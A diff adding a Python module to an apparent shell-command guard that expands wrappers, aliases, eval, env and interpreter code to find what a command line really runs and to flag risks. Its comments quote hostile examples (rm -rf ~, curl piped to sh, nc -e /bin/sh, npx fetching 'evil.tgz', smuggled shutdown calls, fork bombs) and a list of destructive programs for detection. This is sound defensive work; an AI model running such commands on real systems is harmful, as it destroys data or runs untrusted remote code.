@@ -1,0 +1,422 @@
+"""The commands a line would really run: wrappers, shell strings, aliases and assignments looked through.
+
+``sudo env X=1 sh -c 'rm -rf ~'`` runs ``rm``: the ``Expander`` walks the parsed line (``parsing``), each simple
+command through its wrappers (``wrappers``), the code of shells and interpreters (``runners``), what its stdin feeds
+it (``feeds``), and what it writes (``writes``), to every effective command with its static words (an argument only
+run time knows is ``RUN_TIME_ARG``), and every *finding*: what cannot be decided before running (``eval``,
+``$cmd``, ``curl … | sh``, a redirect only run time places, code in data …).
+
+It decides nothing: matching the commands against the rules, and weighing the findings, is the engine's
+(``rules``).
+"""
+
+from __future__ import annotations
+
+import posixpath
+import re
+import shutil
+from collections.abc import Callable, Iterable, Mapping, Sequence
+from dataclasses import dataclass
+
+from mcp_server_guard.shell.commands import Command, Finding, Parsed, Redirect, Word
+from mcp_server_guard.shell.environment import command_line_of, is_command_valued, runs_code
+from mcp_server_guard.shell.feeds import (
+    FETCHES,
+    NO_FEED,
+    REMOTE,
+    Feed,
+    feed_of,
+    judge_code_files,
+    judge_stdin_lines,
+    judge_stdin_substitutions,
+)
+from mcp_server_guard.shell.matching import RUN_TIME_ARG, normalize_path
+from mcp_server_guard.shell.parsing import MAX_COMMANDS, TooComplex, parse
+from mcp_server_guard.shell.run_options import NETWORK_FED, option_commands
+from mcp_server_guard.shell.runners import (
+    INTERPRETERS,
+    SHELLS,
+    expand_interpreter,
+    expand_shell,
+    expand_source,
+    interpreter_name,
+)
+from mcp_server_guard.shell.unknown_programs import DATA_PROGRAMS, run_texts
+from mcp_server_guard.shell.words import expand_braces
+from mcp_server_guard.shell.wrappers import DYNAMIC, UNKNOWN, Inner, unwrap
+from mcp_server_guard.shell.writes import (
+    destination_findings,
+    downloaded_files,
+    redirect_findings,
+    redirected_downloads,
+)
+
+# Variables that only add places a program looks for its modules (the project's own, as a rule).
+_SEARCH_PATHS = frozenset({"PYTHONPATH", "NODE_PATH", "PERL5LIB", "PERLLIB", "RUBYLIB", "CLASSPATH", "GOPATH"})
+_MAX_DEPTH = 8
+# Programs that run code named by a URL as it arrives.
+_URL_RUNNERS = frozenset({"deno", "bun", "npx", "pnpx", "bunx", "uvx", "pipx", "go", "java", "jbang", "tcc"})
+# Programs that run their command in a container or on another host (fed REMOTE).
+_ELSEWHERE = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "ssh", "rsh", "lxc", "incus"})
+# Denied programs whose bare name, among an unknown program's arguments, is taken for the command it runs.
+_PAYLOAD_NAMES = frozenset({"rm", "dd", "shred", "shutdown", "reboot", "poweroff", "halt", "wipefs", "mkfs"})
+# `while true; do sleep 1 & done`: an endless loop whose body puts something in the background (`&`, not `&&`).
+_SPAWNS_FOREVER = re.compile(
+    r"\b(?:while\s+(?:true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\))|until\s+false|for\s*\(\(\s*;\s*;\s*\)\))\s*;?\s*do\b"
+    r"(?:(?!\bdone\b).)*?[^&|>]&(?!&)\s*(?:;|\n|done\b)",
+    re.DOTALL,
+)
+_READ_IFS = re.compile(r"\bIFS=(?:'[^']*'|\"[^\"]*\"|[^\s;&|]*)\s+(?:read|mapfile|readarray)\b")
+_NAMEREF = re.compile(r"\b(?:declare|typeset|local|export)\s+(?:-\w+\s+)*-\w*n")
+
+
+def _plainly_outside(directory: str) -> bool:
+    path = normalize_path(directory)
+    return path in ("-", "~", "/", "..") or path.startswith("../") or path.split("/")[:2] in _SYSTEM_TOPS
+
+
+_SYSTEM_TOPS = [["", top] for top in ("etc", "usr", "var", "home", "root", "boot", "bin", "sbin", "lib", "lib64", "opt",
+                                      "srv", "mnt", "media", "sys", "proc", "dev")]  # fmt: skip
+
+
+def _fed_paths(words: list[Word], feed: Feed) -> list[Word]:
+    """Threat: `find / -name x | xargs rm`: what xargs appends is paths under find's start point; where that is a
+    place outside the project, the command is judged as acting there (its words stand for a path below it)."""
+    upstream = feed.upstream if feed.kind == "pipe" else None
+    head = upstream.words[0].value if upstream is not None and upstream.words else None
+    if upstream is not None and head in ("echo", "printf") and all(w.value is not None for w in upstream.words[1:]):
+        # `echo ~ | xargs rm -rf`: the words echo prints are the arguments xargs appends.
+        data = [Word(w.value, w.raw) for w in upstream.words[1:] if not (w.value or "").startswith("-")]
+        return [part for w in words for part in (data if w is UNKNOWN and data else [w])]
+    if upstream is None or head not in ("find", "fd", "fdfind", "locate", "plocate"):
+        return words
+    start = next((w.value for w in upstream.words[1:] if w.value and not w.value.startswith("-")), None)
+    if head in ("locate", "plocate"):
+        start = "/"
+    if start is None or not (start.startswith(("/", "~")) or start.startswith("..")):
+        return words
+    below = start.rstrip("/") + "/…"
+    return [Word(below, w.raw) if w is UNKNOWN else w for w in words]
+
+
+@dataclass
+class Found:
+    """One effective command, or one finding, with where it came from."""
+
+    argv: list[str] | None
+    text: str
+    finding: Finding | None = None
+    moved: bool = False  # the line changed directory to a place outside the project before it
+
+
+class Expander:
+    """Looks through wrappers, shell strings and assignments to the commands that would really run."""
+
+    def __init__(self, env: Mapping[str, str], base_path: str, known: frozenset[str] = frozenset()) -> None:
+        self.known = known  # programs the policy's rules name: judged by those rules, not looked through
+        self.known_runs: frozenset[str] = frozenset()  # programs a deny rule names: a disguise's usual payload
+        self.found: list[Found] = []
+        self.redirects: list[Redirect] = []
+        self.env = env  # the call's own variables (already checked against the refused names)
+        self.base_path = base_path
+        self.stdin_code = ""  # what reads the call's or job's stdin as program text (Verdict.stdin_code)
+        self.fetches = False  # the line downloads something (curl, wget …): what it builds at run time may be that
+        self.reaches_outside: Callable[[list[str]], bool] = lambda _args: False
+        self.home_path = ""  # what ~ names, spelled out
+        self.downloaded: set[str] = set()  # files the line downloads (curl -o, wget)
+        self.aliases: dict[str, str] = {}  # aliases the line defines
+        self.moved = False  # the line has changed directory to a place outside the project (cd ~, cd /, cd ..)
+
+    def finding(self, kind: str, detail: str) -> None:
+        """Something about the line that cannot be decided before running (the engine weighs it)."""
+        self.found.append(Found(None, detail, Finding(kind, detail)))
+
+    def record(self, findings: Iterable[Finding]) -> None:
+        """Findings made elsewhere (the parser's, a write check's), in their order."""
+        self.found.extend(Found(None, item.detail, item) for item in findings)
+
+    def line(self, source: str, depth: int, feed: Feed = NO_FEED) -> None:
+        """Every command of ``source``; ``feed`` is what the line's own stdin is (its commands inherit it)."""
+        if depth > _MAX_DEPTH:
+            self.finding("too-deep", "shell strings nested too deeply to analyse")
+            return
+        parsed: Parsed = parse(source)
+        self.fetches = self.fetches or FETCHES.search(source) is not None
+        self.downloaded.update(redirected_downloads(source))  # `curl -s URL > i.sh; bash i.sh`
+        self.redirects.extend(parsed.redirects)
+        self.record(redirect_findings(parsed.redirects))
+        self.record(parsed.findings)
+        if parsed.evaluates_run_time:
+            judge_stdin_substitutions(self, feed, depth)  # `read n; (( n ))` fed `a[$(shutdown -h now)]`
+        for code in parsed.evaluated_code:
+            self.line(": " + code, depth + 1)  # x='a[$(rm -rf ~)]'; $((x)) runs rm: judge what it runs
+        for name in sorted(parsed.evaluated_from_env & set(self.env)):
+            if re.search(r"[$`]", self.env[name]):
+                self.finding("code-in-data", f"${name} from the call's env is evaluated as code")
+        # Threat: `IFS=,; c=rm,-rf,x; $c`. The parser splits a variable's known value on blanks; with IFS set in
+        # the line bash splits it on other characters, so such words are only known at run time.
+        # Threat: `IFS=_ x=1 c=shutdown_-h_now; $c`, `IFS+=_`, `read IFS`, `declare -n r=c; c='rm -rf ~'; $r`: once IFS
+        # changes (other than for one `read`) or a name refers to another, unquoted expansions are run-time words.
+        ifs = bool(re.search(r"\bIFS\b", _READ_IFS.sub("", source))) or _NAMEREF.search(source) is not None
+        if _SPAWNS_FOREVER.search(source):
+            self.finding("fork-bomb", "an endless loop starts a background process each time round")
+        for command in parsed.commands:
+            if command.words and command.words[0].value == "exec" and len(command.words) == 1:
+                # `exec <<< '…'; bash`: exec with only redirections gives the rest of the line that stdin.
+                feed = feed_of(command, feed)
+            if ifs:
+                command.words = [
+                    Word(None, w.raw, split=True) if w.split or w.raw.startswith("$") else w for w in command.words
+                ]
+            self.command(command, depth, feed_of(command, feed))
+
+    def command(self, command: Command, depth: int, feed: Feed = NO_FEED) -> None:
+        """One simple command of a parsed line: its assignments, then its words."""
+        if command.assignments:
+            reads = bool(command.words) and command.words[0].value in ("read", "mapfile", "readarray")
+            # `while IFS= read -r line`: IFS set for the read builtin only decides how it splits a line of data.
+            self.assignments([(n, w) for n, w in command.assignments if not (reads and n == "IFS")], depth)
+        words = command.words
+        if not words:
+            return
+        if any(w.prompt_expansion for w in words):
+            self.finding("prompt-expansion", "${var@P} expands a value like a prompt (it can run commands)")
+        declares = words[0].value in ("export", "declare", "typeset", "local", "readonly")
+        path_word = None if declares else next((w for name, w in command.assignments if name == "PATH"), None)
+        if path_word is not None and path_word.value is None:
+            self.finding("path-override", "PATH is set to a value only known at run time")
+        self.argv(words, command, depth, path=path_word.value if path_word is not None else None, feed=feed)
+
+    def assignments(self, assignments: Sequence[tuple[str, Word]], depth: int) -> None:
+        """Threat: `LESSOPEN='|sh x' less f`, `GIT_CONFIG_COUNT=… git …`, `LD_PRELOAD=… x` — variables that
+        make the program run other code, set for one command."""
+        for name, word in assignments:
+            if is_command_valued(name):
+                self.finding("command-variable", f"{name}=… names a program that will be run")
+                if word.value is None:
+                    self.finding("dynamic-shell-string", f"{name} names a command only known at run time")
+                elif word.value:
+                    self.line(command_line_of(name, word.value), depth + 1)
+            elif runs_code(name):
+                kind = "search-path" if name in _SEARCH_PATHS else "env-code"
+                self.finding(kind, f"{name}=… makes the program load code or settings chosen here")
+
+    def argv(
+        self,
+        words: Sequence[Word],
+        command: Command | None,
+        depth: int,
+        path: str | None = None,
+        feed: Feed = NO_FEED,
+    ) -> None:
+        """One command's words (``path``: the PATH it is run with): the effective command, then what it runs."""
+        if not words:
+            return
+        # Threat: r``m -rf ~ — bash runs the (empty) command substitution; a word holding a backtick that bash
+        # would take for one is only known at run time.
+        words = [Word(None, w.raw) if "`" in (w.value or "") and "`" in w.raw.replace("\\`", "") and not
+                 w.raw.startswith("'") else w for w in words]  # fmt: skip
+        head = words[0]
+        text = command.text if command is not None else " ".join(w.raw for w in words)
+        if head.split and head.value is not None and len(head.value.split()) > 1:
+            # Threat: `x='rm -rf ~'; $x` — bash splits the value into words: the first is the program.
+            split = head.value.split()
+            words = [Word(split[0], head.raw), *(Word(part, head.raw) for part in split[1:]), *words[1:]]
+            head = words[0]
+        if head.static is None:
+            # `$PYTHON -m pytest`, `"$(go env GOPATH)/bin/lint"`: on a copy, judged by what it does; one split by a
+            # changed IFS or fed by a download stays undecidable.
+            static = [w.value for w in words[1:] if w.value is not None]
+            outside = self.reaches_outside(static)  # `$(echo rm) -rf ~`: whatever runs, it acts outside
+            kind = "dynamic-command" if head.split or self.fetches or outside else "dynamic-program"
+            self.finding(kind, f"the program name {head.raw!r} is only known at run time")
+            judge_stdin_lines(self, "a program named at run time", feed, depth)  # `$(cat)`, `read l; $l`
+            return
+        if len(self.found) >= MAX_COMMANDS:
+            raise TooComplex(f"the command line runs more than {MAX_COMMANDS} commands")
+        argv = [words[0].value or ""]
+        for word in words[1:]:
+            if word.value is None:
+                argv.append(RUN_TIME_ARG)
+            elif word.glob and "{" in word.raw:
+                argv.extend(expand_braces(word.value))  # rm {-rf,x} is rm -rf x
+            elif word.split and word.value.split() != [word.value]:
+                argv.extend(word.value.split())  # F="-r -f"; rm $F
+            else:
+                argv.append(word.value)
+        self._check_program(argv[0], path)
+        program = posixpath.basename(argv[0])
+        if program in self.aliases and depth <= _MAX_DEPTH:
+            # Threat: `alias r='rm -rf'` then `r ~`: the alias is what runs.
+            self.line(f"{self.aliases.pop(program)} {' '.join(w.raw for w in words[1:])}", depth + 1, feed)
+            return
+        if program in ("cd", "pushd"):
+            target = [a for a in argv[1:] if a not in ("-P", "-L", "-e", "-@", "--")][:1]
+            # Only the places plainly outside any project: home, /, .., -, the system's own directories (an agent's
+            # `cd /testbed && …` names its project, which this layer may not know as a root).
+            self.moved = self.moved or not target or _plainly_outside(target[0])
+        self.found.append(Found(argv, text, moved=self.moved))
+        program = posixpath.basename(argv[0])
+        rest = list(words[1:])
+        self.record(destination_findings(program, argv, self.home_path))
+        self._downloads(program, argv)
+        if program in _URL_RUNNERS and any(a.startswith(("http://", "https://")) for a in argv[1:]):
+            # Threat: `deno run -A https://…`, `npx https://x/evil.tgz`: code fetched and run as it arrives.
+            self.finding("remote-code", f"{program} runs code from a URL")
+        for inner_text in option_commands(interpreter_name(program) or program, rest):
+            # `nc -e /bin/sh host`: the shell's stdin is the connection, so its script comes from elsewhere.
+            self.inner(program, inner_text, depth, Feed("pipe") if program in NETWORK_FED else feed)
+        if program == "eval":
+            if rest and all(w.value is not None for w in rest):
+                # eval 'static text': judge the text, with the line's stdin (`eval 'eval "$(cat)"'`)
+                self.line(" ".join(w.value or "" for w in rest), depth + 1, feed)
+            else:
+                if any(FETCHES.search(w.raw) for w in rest):
+                    self.finding("remote-code", "eval runs a string fetched from the network")
+                # `eval "$(pyenv init -)"`: on a copy, judged by what it does; with a download in the line, never.
+                self.finding("eval" if self.fetches else "dynamic-eval", "eval runs a string built at run time")
+                judge_stdin_lines(self, "eval", feed, depth)
+        elif program == "hash" and any(
+            w.value is None or ((w.value or "").startswith("-") and "p" in (w.value or "")) for w in rest
+        ):
+            # Threat: `hash -p /sbin/shutdown ls; ls -h now` — a name that then runs another program.
+            self.finding("path-override", "hash -p makes a name run another program")
+        elif program == "enable" and any((w.value or "").startswith("-") and "f" in (w.value or "") for w in rest):
+            self.finding("env-code", "enable -f loads a builtin from a shared object")
+        elif program in ("source", "."):
+            expand_source(self, program, rest, depth, feed)
+        elif program in SHELLS or (program == "busybox" and rest and rest[0].value in SHELLS):
+            expand_shell(self, rest if program != "busybox" else rest[1:], depth, feed)
+        elif program in INTERPRETERS or interpreter_name(program):
+            expand_interpreter(self, program, rest, feed, depth)
+            if not interpreter_name(program):  # julia, guile, clisp …: the literal commands of their code options
+                for code in run_texts(program, rest):
+                    self.inner(program, code, depth, feed)
+        elif program == "env":
+            self._env(rest, depth, feed)
+        elif program in ("alias", "mapfile", "readarray"):
+            self._code_words(program, rest, depth)
+        else:
+            judge_code_files(self, program, rest, feed, depth)
+            inner = unwrap(program, rest)
+            if program == "xargs" and isinstance(inner, list):
+                inner = [_fed_paths(part, feed) for part in inner]
+            if inner is None and program not in DATA_PROGRAMS:
+                self._unknown(program, rest, depth, feed)
+            # A wrapper's command reads the wrapper's stdin (xargs' reads nothing: xargs takes it); a container's or
+            # a remote host's shell is not one this machine starts.
+            inner_feed = NO_FEED if program in ("xargs", "parallel") else REMOTE if program in _ELSEWHERE else feed
+            self.inner(program, inner, depth, inner_feed)
+
+    def _unknown(self, program: str, rest: list[Word], depth: int, feed: Feed) -> None:
+        """A program no rule and no table here knows. Threat: a wrapper nobody listed (`aa-exec /bin/sh`, `choom -n 0
+        rm -rf ~`, `logsave /dev/null /bin/sh -i`) and a code option nobody listed (`lua -e 'os.execute("…")'`).
+        The first word that names a shell or a program a rule denies is taken for the command it runs, with the
+        words after it; literal command lines in its code options are judged."""
+        for i, word in enumerate(rest):
+            value = word.value or ""
+            name = posixpath.basename(value)
+            # A shell by name or path; a denied program by path, or by one of the names only a disguise would use.
+            if name in SHELLS or (name in self.known_runs and ("/" in value or name in _PAYLOAD_NAMES)):
+                self.argv(rest[i:], None, depth + 1, feed=feed)
+                break
+        for text in run_texts(program, rest):
+            self.inner(program, text, depth, feed)
+
+    def _downloads(self, program: str, argv: list[str]) -> None:
+        """Threat: `curl -o i.sh URL && bash i.sh`, `wget URL/x.sh; sh x.sh`: a file downloaded and run in the same
+        line is code fetched from the network and run as it arrives."""
+        if program in ("curl", "wget"):
+            self.downloaded.update(downloaded_files(program, argv))
+            return
+        if not self.downloaded:
+            return
+        run = [argv[0]]
+        if program in SHELLS or program in INTERPRETERS or interpreter_name(program) or program in ("source", "."):
+            run += [a for a in argv[1:] if not a.startswith("-")][:1]
+        if any(posixpath.normpath(r) in self.downloaded for r in run if r != RUN_TIME_ARG):
+            self.finding("remote-code", f"{program} runs a file this line downloads")
+
+    def inner(self, program: str, inner: Inner, depth: int, feed: Feed) -> None:
+        """What a wrapper or a run-this option runs: a command line, commands, or text only run time knows."""
+        if isinstance(inner, str):
+            self.line(inner, depth + 1)
+        elif inner is DYNAMIC:
+            self.finding("dynamic-shell-string", f"{program} runs a command string only known at run time")
+        elif isinstance(inner, list):
+            for part in inner:
+                self.argv(part, None, depth + 1, feed=feed)
+
+    def _check_program(self, name: str, path: str | None) -> None:
+        """Threat: `PATH=./fake:$PATH ls` or the call's env PATH running a look-alike `ls` from the project.
+        The program judged must be the one that runs: a name PATH resolves elsewhere is undecidable."""
+        if "/" in name or name == RUN_TIME_ARG:
+            return
+        effective = path if path is not None else self.env.get("PATH")
+        if effective is None:
+            return
+        effective = effective.replace("$PATH", self.base_path).replace("${PATH}", self.base_path)
+        relative = any(not entry.startswith("/") for entry in effective.split(":"))  # resolved from the cwd
+        if relative or shutil.which(name, path=effective) != shutil.which(name, path=self.base_path):
+            self.finding("path-override", f"PATH makes {name!r} run a different program than the usual one")
+
+    def _env(self, rest: list[Word], depth: int, feed: Feed) -> None:
+        assignments: list[tuple[str, Word]] = []
+        i = 0
+        while i < len(rest):
+            value = rest[i].value
+            if value is None:
+                break
+            if value == "--":
+                i += 1
+                break
+            if value in ("-S", "--split-string") or value.startswith(("-S", "--split-string=")):
+                line = (
+                    " ".join(w.value or "" for w in rest[i + 1 :])
+                    if value in ("-S", "--split-string")
+                    else value[2:]
+                    if value.startswith("-S")
+                    else value.partition("=")[2]
+                )
+                if value in ("-S", "--split-string") and any(w.value is None for w in rest[i + 1 :]):
+                    self.finding("dynamic-shell-string", "env -S runs a command string only known at run time")
+                else:
+                    self.line(line, depth + 1)
+                return
+            if value in ("-u", "-C", "--unset", "--chdir"):
+                i += 2
+                continue
+            if value.startswith("-") and len(value) > 1:
+                i += 1
+                continue
+            if "=" in value and not value.startswith("="):
+                name, _, assigned = value.partition("=")
+                assignments.append((name, Word(assigned, rest[i].raw)))
+                i += 1
+                continue
+            break
+        self.assignments(assignments, depth)
+        path = next((w.value for name, w in assignments if name == "PATH"), None)
+        if i < len(rest):
+            self.argv(rest[i:], None, depth + 1, path=path, feed=feed)
+
+    def _code_words(self, program: str, rest: list[Word], depth: int) -> None:
+        """`alias x='…'` and `mapfile -C '…'`: strings bash later runs as commands."""
+        if program == "alias":
+            for word in rest:
+                if word.value is None:
+                    self.finding("dynamic-shell-string", "alias defines a command only known at run time")
+                elif "=" in word.value:
+                    name, _, value = word.value.partition("=")
+                    self.aliases[name] = value
+                    self.line(value, depth + 1)
+            return
+        for i, word in enumerate(rest):
+            if (word.value or "").startswith("-C"):
+                callback = word.value[2:] if word.value and len(word.value) > 2 else None
+                if callback is None and i + 1 < len(rest):
+                    callback = rest[i + 1].value
+                if callback is None:
+                    self.finding("dynamic-shell-string", f"{program} -C runs a callback only known at run time")
+                else:
+                    self.line(callback, depth + 1)
